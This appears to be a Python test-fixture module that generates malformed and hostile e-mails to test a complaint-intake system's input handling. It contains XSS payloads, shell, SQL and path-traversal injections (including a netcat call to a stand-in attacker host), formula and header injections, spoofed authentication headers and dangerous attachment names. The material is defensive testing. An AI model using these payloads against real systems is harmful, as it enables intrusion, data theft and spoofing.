"""Mails as nobody should write them: the e-mail column of the bad-input matrix (HARDENING §4), made class by class.

Each is (name, bytes, what must be read in it): `says` stands in the text, `title` in the subject, `sender` is the
address, `file` the content of an enclosure. What is not named is left open; that nothing breaks is tried of all.
"""

import base64
from collections.abc import Iterator
from email.header import Header
from itertools import product
from typing import NamedTuple

WORDS = "Airnya bau sekali sejak Senin."


class Bad(NamedTuple):
    """One mail and what must be read in it."""

    name: str
    raw: bytes
    says: str | None = None
    title: str | None = None
    sender: str | None = None
    file: bytes | None = None


def mail(
    body: bytes = WORDS.encode(), *, sender: str | bytes = "Alice <alice@example.org>", subject: str | bytes = "Air",
    kind: str = "text/plain; charset=utf-8", more: bytes = b"",
) -> bytes:  # fmt: skip
    def as_bytes(value: str | bytes) -> bytes:
        return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")

    return (
        b"From: " + as_bytes(sender) + b"\r\nTo: keluhan@x.test\r\nSubject: " + as_bytes(subject) + b"\r\n" + more
        + f"MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n".encode() + body
    )  # fmt: skip


def encoded(subject: str) -> str:
    """As a program writes it that knows how."""
    return Header(subject, "utf-8").encode()


CHARSETS = (
    "utf-8", "iso-8859-1", "windows-1252", "utf-16", "utf-16-le", "iso-2022-jp", "shift_jis", "euc-kr", "gb18030",
    "koi8-r", "big5", "utf-7", "us-ascii",
)  # fmt: skip
ASCII_INSIDE = set(CHARSETS) - {"utf-16", "utf-16-le"}
ODD_BYTES = (
    b"\xff\xfe\xfd", b"\xc3\x28", b"\xed\xa0\x80", b"\xf0\x9f", b"\0", b"\0\0\0\0", b"\xef\xbb\xbf", b"\x1b[31m",
    b"\x80\x81", b"\x7f\x08",
    "e\u0301 \u00e9".encode(), "\u202eSenin".encode(), "\u200b\u200c\ufeff".encode(), "😀🏳️‍🌈".encode(),
    "\u2028\u2029\x85".encode(),
)  # fmt: skip
ODD_SUBJECTS = (
    "=?utf-8?B?!!!?=", "=?x-none?Q?a=ZZ?=", "=?utf-8?Q?=C3?=", "=?utf-8?B?4pyTIA", "=?utf-16?B?AA==?=", "=?utf-8?Q??=",
    "=?utf-8?Q?a?= =?iso-8859-1?Q?=E9?=",
)  # fmt: skip


def encodings() -> Iterator[Bad]:
    for charset in CHARSETS:
        body = WORDS.encode(charset)
        for label in dict.fromkeys((charset, "utf-8", "x-unknown")):
            sure = charset in ASCII_INSIDE or label == charset == "utf-16"
            yield Bad(f"{charset} as {label}", mail(body, kind=f"text/plain; charset={label}"), WORDS if sure else None)
    for number, odd in enumerate(ODD_BYTES):
        yield Bad(f"odd bytes {number}", mail(b"Airnya " + odd + b" bau"), "Airnya")
    for subject in ODD_SUBJECTS:
        yield Bad(f"subject {subject}", mail(subject=subject), WORDS)


def sizes() -> Iterator[Bad]:
    for size in (0, 1, 2, 100, 10_000, 19_999, 20_000, 20_001, 100_000, 250_000):
        yield Bad(f"body {size}", mail(b"a" * size), "a" * min(size, 50))
    for size in (0, 1, 200, 201, 10_000, 50_000):
        yield Bad(f"subject {size}", mail(subject="b" * size), WORDS)
    yield Bad("name of 20,000", mail(sender=f"{'n' * 20_000} <alice@example.org>"), WORDS)
    yield Bad("1,000 recipients",
        mail(more=b"Cc: " + b", ".join(b"a%d@b.example" % n for n in range(1_000)) + b"\r\n"), WORDS)
    yield Bad("400 headers", mail(more=b"".join(b"X-%d: x\r\n" % n for n in range(400))), WORDS)
    yield Bad("only lines", mail(b"\r\n" * 50_000), "")


DATES = (
    "", "0", "-1", "now", "kemarin", "Thu, 30 Feb 2026 10:00:00 +0700", "Mon, 01 Jan 0000 00:00:00 +0000",
    "Fri, 31 Dec 9999 23:59:60 +0000", "1 Jan 10000 00:00 +0000", "Sat, 28 Nov 2026 25:61:61 +0700", "28/11/2026",
    "2026-11-28T07:00:00Z", "Sat, 28 Nov 2026 07:00:00 +9999", "Sat, 28 Nov 2026 07:00:00 WIB", "Sat, 28 Nov 2026",
    "\xff", "Sun, 28 Mar 2027 02:30:00 +0100", "Thu, 01 Jan 1970 00:00:00 -0000", "9" * 5_000,
    "Sat, 28 Nov 26 7:0:0 GMT",
)  # fmt: skip


def dates() -> Iterator[Bad]:
    for date in DATES:
        yield Bad(f"date {date[:40]!r}", mail(more=f"Date: {date}\r\n".encode("latin-1")), WORDS)


XSS = (
    "<script>w()</script>", "<img src=x onerror=w()>", "<svg onload=w()>", "<a href=\"javascript:w()\">x</a>",
    "<a href=\"&#0000106avascript:w()\">x</a>", "<a href=\"java\tscript:w()\">x</a>",
    "<iframe srcdoc=\"<script>w()</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=w()&gt;\">",
    "<style>@import 'https://evil.example/x.css'</style>", "<p style=\"background:url(https://evil.example/b)\">x</p>",
    "<form action=https://evil.example><input name=a></form>", "<base href=https://evil.example/>",
    "<object data=x></object>",
    "<meta http-equiv=refresh content=\"0;url=javascript:w()\">", "<link rel=stylesheet href=https://evil.example/x>",
    "<noscript><p title=\"</noscript><img src=x onerror=w()>\">", "<template><script>w()</script></template>",
    "<details open ontoggle=w()>x</details>", "<video><source onerror=w()></video>", "<body onload=w()>",
    "<!--><img src=x onerror=w()>-->",
    "<![CDATA[<script>w()</script>]]>", "<a href=\"data:text/html,<script>w()</script>\">x</a>", "<x onclick=w()>x</x>",
    "\"><script>w()</script>", "'-w()-'", "[x](javascript:w())", "<img src=\"cid:../../desk/\">",
    "<img src=`x`onerror=w()>",
    "<textarea><img src=x onerror=w()></textarea>",
)  # fmt: skip


def scripts() -> Iterator[Bad]:
    for number, attack in enumerate(XSS):
        name = attack.replace('"', "'").replace("\t", " ")
        yield Bad(f"xss {number} in HTML", mail(f"<p>{WORDS}</p>{attack}".encode(), kind="text/html"), WORDS)
        yield Bad(f"xss {number} in text", mail(f"{WORDS}\n{attack}".encode()), WORDS)
        yield Bad(f"xss {number} in subject", mail(subject=encoded(attack)), WORDS, title=attack.replace("\t", " "))
        yield Bad(f"xss {number} in name", mail(sender=f'"{encoded(name)}" <alice@example.org>'), WORDS,
            sender="alice@example.org")
        yield Bad(f"xss {number} as file", with_file(encoded(name), b"isi"), file=b"isi")


INJECTIONS = (
    "'; DROP TABLE cases_case; --", "' OR 1=1 --", "\\'; --", "%' UNION SELECT NULL--", "*)(uid=*))(|(uid=*",
    "$(id)", "`id`",
    "; cat /etc/passwd", "| nc evil.example 1", "../../../etc/passwd", "..\\..\\win.ini", "/dev/null",
    "file:///etc/passwd",
    "%00", "%0d%0aBcc: x@y.z", "x\\r\\nBcc: x@y.z", "1;WAITFOR DELAY '0:0:5'", "pg_sleep(9)", "NULL", "-1",
)  # fmt: skip
TEMPLATES = ("{{7*7}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{name}", "%(name)s", "{0.__class__}",
    "%n%n%s", "{{config}}")
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "\t=1", "=HYPERLINK(\"http://evil.example\")",
    "=1;2", "＝1+1", "'=1", "0xA", "=-1")


def texts(kind: str, attacks: tuple[str, ...]) -> Iterator[Bad]:
    for number, attack in enumerate(attacks):
        yield Bad(f"{kind} {number} in text", mail(f"{attack}\n{WORDS}".encode()), attack.strip())
        yield Bad(f"{kind} {number} in subject", mail(subject=encoded(attack)), WORDS, title=attack.strip())


HEADS = (
    b"From: Alice <alice@example.org>\r\n", b"To: k@x.test\r\n", b"Subject: Air\r\n",
    b"Date: Sat, 28 Nov 2026 07:00:00 +0700\r\n",
    b"Message-ID: <a@b.example>\r\n", b"MIME-Version: 1.0\r\n", b"Content-Type: text/plain; charset=utf-8\r\n",
)  # fmt: skip
WHOLE = b"\r\n".join((
    b"From: Alice <alice@example.org>", b"Subject: Air", b"MIME-Version: 1.0",
    b'Content-Type: multipart/mixed; boundary="a b"', b"", b"--a b",
    b"Content-Type: multipart/alternative; boundary=c", b"",
    b"--c", b"Content-Type: text/plain", b"", b"Airnya bau.", b"--c", b"Content-Type: text/html",
    b"Content-Transfer-Encoding: quoted-printable", b"", b"<p>Airnya=20bau.</p>", b"--c--", b"--a b",
    b"Content-Type: image/png; name=a.png", b"Content-Transfer-Encoding: base64", b"", b"iVBORw0KGgo=", b"--a b--", b"",
))  # fmt: skip
ODD_SHAPES = (
    b"", b"\r\n", b"\n\n\n", b"x", b":", b": x\r\n\r\n", b"From alice Sat Nov 28\r\n" + mail(),
    WHOLE.replace(b"\r\n", b"\n"),
    WHOLE.replace(b"\r\n", b"\r"), WHOLE.replace(b"boundary=c", b""), WHOLE.replace(b"--c", b"--d"),
    WHOLE.replace(b"base64", b"x-none"),
    WHOLE.replace(b"multipart/alternative", b"multipart/x"), WHOLE.replace(b"text/plain", b"text/"),
    WHOLE.replace(b"text/plain", b"/"),
    mail(more=b"From: Bob <bob@example.org>\r\n"), mail(sender="Warga: alice@example.org, bob@example.org;"),
    mail(sender="undisclosed:;"),
    mail(b"begin 644 a.txt\n#0V%T\n`\nend\n"), mail(b"\x78\x9f\x3e\x22", kind="application/ms-tnef; name=winmail.dat"),
    mail(b"x", kind="application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m"), mail(kind="message/rfc822"),
    mail(kind="multipart/mixed"), mail(kind="multipart/report; report-type=delivery-status; boundary=b"),
    mail(kind="message/partial; id=1"),
    mail(kind="message/external-body; access-type=local-file; name=\"/etc/passwd\""),
    mail(kind="text/plain; charset=\"\"; charset=utf-8"),
    mail(more=b"Content-Transfer-Encoding: base64\r\n"), mail(more=b"Content-Transfer-Encoding: quoted-printable\r\n"),
    mail(more=b"List-Id: <x.example>\r\nPrecedence: bulk\r\n"), mail(more=b"\xff\xfe: x\r\n"),
    mail(more=b" folded\r\n\tagain\r\n"),
)  # fmt: skip


def shapes() -> Iterator[Bad]:
    for kept in product((True, False), repeat=len(HEADS)):
        head = b"".join(line for line, wanted in zip(HEADS, kept, strict=True) if wanted)
        left_out = "".join("01"[wanted] for wanted in kept)
        yield Bad(f"headers {left_out}", head + b"\r\n" + WORDS.encode(), WORDS if any(kept) else None)
    for number, raw in enumerate(ODD_SHAPES):
        yield Bad(f"shape {number}", raw)
    for number in range(40):
        yield Bad(f"cut after {number} of 40", WHOLE[: len(WHOLE) * number // 40])


SENDERS = (
    ("alice@example.org", "alice@example.org"), ("<alice@example.org>", "alice@example.org"),
    ('"bob@example.org" <alice@example.org>', "alice@example.org"), ("bob@example.org <alice@example.org>",
    "alice@example.org"),
    ("alice+galon@example.org", "alice+galon@example.org"), ("ALICE@EXAMPLE.ORG", "ALICE@EXAMPLE.ORG"),
    ("Alice (bob@example.org) <alice@example.org>", "alice@example.org"), ("alice@exаmple.org", "alice@exаmple.org"),
    ("alice@xn--exmple-qta.org", "alice@xn--exmple-qta.org"), ("+6281234567890@sms.example",
    "+6281234567890@sms.example"),
    ("0812-3456-7890@sms.example", "0812-3456-7890@sms.example"), ("62812@pager.example", "62812@pager.example"),
    ("Alice alice@example.org", "alice@example.org"), ("alice@example.org,", "alice@example.org"),
    ("alice@@example.org", None),
    ("alice", None), ("", None), ("@", None), ("<>", None), ("a@b@c", None), ("Alice <alice at example.org>", None),
    ("=?utf-8?B?QWxpY2U=?= <alice@example.org>", "alice@example.org"), ("'alice@example.org'", None),
    ("alice@localhost", "alice@localhost"),
    ("mailto:alice@example.org", None), ("Keluhan <keluhan@x.test>", "keluhan@x.test"), ("fitri@sagara.test",
    "fitri@sagara.test"),
    ("alice@[10.0.0.1]", None), ("\"a b\"@example.org", None), ("alice@example.org\u202e", None),
)  # fmt: skip
CLAIMS = (
    "Authentication-Results: x.test; dkim=pass header.d=bank.example", "Received-SPF: pass",
    "Reply-To: mallory@evil.example",
    "Sender: bob@example.org", "Cc: mallory@evil.example", "Bcc: mallory@evil.example", "Resent-From: bob@example.org",
    "X-Original-From: fitri@sagara.test", "X-Tanggap-Staff: 1", "X-User: admin", "Authorization: Bearer x",
    "ARC-Seal: i=1; cv=pass",
    "DKIM-Signature: v=1; d=example.org; b=AAAA", "Return-Path: <>", "Errors-To: x@y.z",
    "Disposition-Notification-To: x@y.z",
    "Return-Receipt-To: x@y.z", "X-Confirm-Reading-To: x@y.z", "X-Forwarded-For: 127.0.0.1",
    "Delivered-To: keluhan@x.test",
    "References: <K26-00001@x.test>", "In-Reply-To: <1@testserver>", "X-Case: case:1", "X-Priority: 1",
    "Importance: high",
    "Cc: a@b.c, d@e.f, g@h.i", "To: alice@example.org", "Reply-To: keluhan@x.test",
    "From: Mallory <m@evil.example>", "X-Mailer: x",
)  # fmt: skip


def identities() -> Iterator[Bad]:
    for number, (sender, address) in enumerate(SENDERS):
        yield Bad(f"sender {number}", mail(sender=sender), WORDS, sender=address)
    for number, line in enumerate(CLAIMS):
        yield Bad(f"claim {number}", mail(more=f"{line}\r\n".encode()), WORDS, sender="alice@example.org")


def protocols() -> Iterator[Bad]:
    lines = (
        b".", b"..", b"\n.\r\nMAIL FROM:<x@y.z>", b"\r.\r", b"QUIT", b"RSET", b"DATA", b"From alice",
        b">From alice", b"250 ok",
        b"\r\n.\n", b"\x1a", b"\x04", b"A" * 5_000, b"EHLO x", b"-- ", b"=3D=0D=0A.", b"Content-Length: 0",
        b"Bcc: x@y.z", b"\\.",
    )  # fmt: skip
    for number, line in enumerate(lines):
        yield Bad(f"protocol {number}", mail(WORDS.encode() + b"\r\n\r\n" + line + b"\r\nTerima kasih."), WORDS)


NAMES = (
    ".htaccess", "..\\..\\x.php", "../../../etc/cron.d/x", "a.pdf:evil.exe", "CON", "n" * 300 + ".pdf",
    "gaji\u202egpj.exe",
    "\u200b.htaccess", "a\0b.png", "  .  ", "<b>x</b>.html", "surat keluhan – é.docx",
)  # fmt: skip
CONTENTS = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='w()'/>", b"<html><script>w()</script>",
    b"%PDF-1.7\n/JS (w())", b"MZ\x90\0",
    b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", b"PK\x03\x04\x14\0\x01\0",
    b"GIF89a/*<script>w()*/",
    b"\x89PNG\r\n\x1a\n broken", b"\xff\xd8\xff\xe1Exif\0\0", b"#!/bin/sh\nid",
)  # fmt: skip


def with_file(name: str, content: bytes) -> bytes:
    head = f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n'
    return mail(
        b"--b\r\nContent-Type: text/plain\r\n\r\n" + WORDS.encode() + b"\r\n--b\r\n" + head.encode("utf-8",
        "surrogatepass")
        + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(content) + b"\r\n--b--\r\n",
        kind="multipart/mixed; boundary=b",
    )  # fmt: skip


def enclosed() -> Iterator[Bad]:
    for (place, name), (number, content) in product(enumerate(NAMES), enumerate(CONTENTS)):
        yield Bad(f"file {place}.{number}", with_file(name, content), WORDS, file=content)


CLASSES: dict[str, tuple[int, list[Bad]]] = {
    "encoding": (60, list(encodings())), "size": (20, list(sizes())), "dates": (20, list(dates())), "xss": (150,
    list(scripts())),
    "injection": (40, list(texts("injection", INJECTIONS))), "template": (20, list(texts("template", TEMPLATES))),
    "formula": (24, list(texts("formula", FORMULAS))), "structure": (200, list(shapes())), "identity": (60,
    list(identities())),
    "protocol": (20, list(protocols())), "files": (120, list(enclosed())),
}  # fmt: skip
